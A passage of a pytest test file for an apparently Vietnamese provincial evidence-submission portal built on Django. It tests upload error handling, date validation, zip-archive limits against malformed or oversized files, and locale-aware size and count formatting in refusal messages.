    real_fsync_path = dti_portal.storage.fsync_path

    def failing_fsync_path(path, *, directory=False):
        if os.path.isdir(path) == (failing == "directory"):
            raise OSError(errno.EIO, "Input/output error")
        real_fsync_path(path, directory=directory)

    monkeypatch.setattr(dti_portal.storage, "fsync_path", failing_fsync_path)
    with pytest.raises(OSError):
        services.evidence_add_file(
            submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
        )
    assert not EvidenceFile.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_office_file_of_an_unknown_zip_version_refused(draft, user_a, api_as):
    """A central directory claiming a zip version newer than Python reads (NotImplementedError
    in ``zipfile``) is a broken file (400), not a server error."""
    data = docx_bytes()
    bad = zip_of_future_version(data)
    assert bad != data
    resp = upload(api_as(user_a), draft, "quyet-dinh.docx", bad)
    assert resp.status_code == 400, resp.content
    assert resp.json()["code"] == "bad_zip" and stored_files() == []


@pytest.mark.django_db
def test_document_reference_without_a_number_is_shown(world, draft, user_a, client_as):
    """A document without a number (a report, minutes) still shows its date of issue, issuer
    and summary on the item page and on the read-only page the lead opens."""
    import datetime

    services.evidence_add_link(
        submission=draft,
        actor=user_a,
        url="https://congbao.khanhhoa.gov.vn/bao-cao",
        doc_date=datetime.date(2025, 3, 15),
        issuer="UBND tỉnh Khánh Hòa",
        summary="Báo cáo kết quả chuyển đổi số quý I",
    )
    c = client_as(user_a)
    form = c.get(reverse("evidence:submission_edit", args=[world.period.pk, world.ratio.pk]))
    item = form.content.decode().split('id="evidence-list"')[1].split("</li>")[0]
    detail = c.get(reverse("evidence:submission_detail", args=[draft.pk])).content.decode()
    for html in (item, detail.split("Tài liệu kiểm chứng")[-1]):
        assert "15/03/2025" in html
        assert "UBND tỉnh Khánh Hòa" in html
        assert "Báo cáo kết quả chuyển đổi số quý I" in html


@pytest.mark.django_db
def test_page_upload_with_an_unreadable_date_of_issue_is_refused_not_dropped(
    world, draft, user_a, client_as
):
    """The API refuses a bad ``doc_date`` (400); the page did store the evidence without it."""
    c = client_as(user_a)
    resp = c.post(
        reverse("evidence:evidence_upload", args=[draft.pk]),
        {
            "url": "https://congbao.khanhhoa.gov.vn/vb/1",
            "doc_number": "1/BC",
            "doc_date": "31/02/2025",
        },
    )
    assert resp.status_code == 302
    assert not EvidenceFile.objects.filter(submission=draft).exists()
    html = c.get(resp["Location"]).content.decode()
    assert "Ngày ban hành không hợp lệ" in html
    assert 'id="id_doc_date"' in html and 'value="31/02/2025"' in html
    field = html.split('id="id_doc_date"')[0].rsplit("<input", 1)[1]
    assert "is-invalid" in field
    # a date the date picker sends, or typed as dd/mm/yyyy, is kept
    for typed in ("2025-03-15", "15/03/2025"):
        c.post(
            reverse("evidence:evidence_upload", args=[draft.pk]),
            {"url": f"https://congbao.khanhhoa.gov.vn/vb/{typed}", "doc_date": typed},
        )
    assert sorted(str(d) for d in EvidenceFile.objects.values_list("doc_date", flat=True)) == [
        "2025-03-15",
        "2025-03-15",
    ]


def test_sizes_in_messages_never_read_as_within_the_limit():
    """A 30.04 MB file refused by a 30 MB limit must not read "(30 MB); tối đa 30 MB": sizes
    round up to one decimal, in the reader's number format, thousands grouped."""
    from django.utils import translation

    from evidence.services.content_checks import fmt_size
    from evidence.services.evidence_files import _mb

    mib = 1024 * 1024
    assert fmt_size(30 * mib) == "30 MB" and _mb(30 * mib) == "30"
    assert fmt_size(int(30.04 * mib)) == "30,1 MB" and _mb(int(30.04 * mib)) == "30,1"
    assert fmt_size(10240 * mib) == "10.240 MB"
    assert fmt_size(1500) == "1,5 KB"
    with translation.override("en"):
        assert fmt_size(int(30.04 * mib)) == "30.1 MB"
        assert fmt_size(10240 * mib) == "10,240 MB"


def test_zip_budget_messages_group_thousands():
    """Counts and ratios in a refusal read 1.500 and 20.000 in Vietnamese, not 1500 / 20000."""
    import zipfile

    from evidence.services.content_checks import ZipBudget, budget_excess

    gib = 1024**3
    budget = ZipBudget(max_entries=1000, max_total=100 * gib, max_entry=100 * gib, max_ratio=1000)
    many = [zipfile.ZipInfo(f"f{i}.xml") for i in range(1500)]
    assert budget_excess(many, budget) == "1.500 mục trong tệp nén, tối đa 1.000"
    part = zipfile.ZipInfo("word/document.xml")
    part.file_size, part.compress_size = 2 * gib, 100_000
    assert budget_excess([part], budget) == (
        "phần “word/document.xml” nén 21.475 lần, tối đa 1.000 lần"
    )
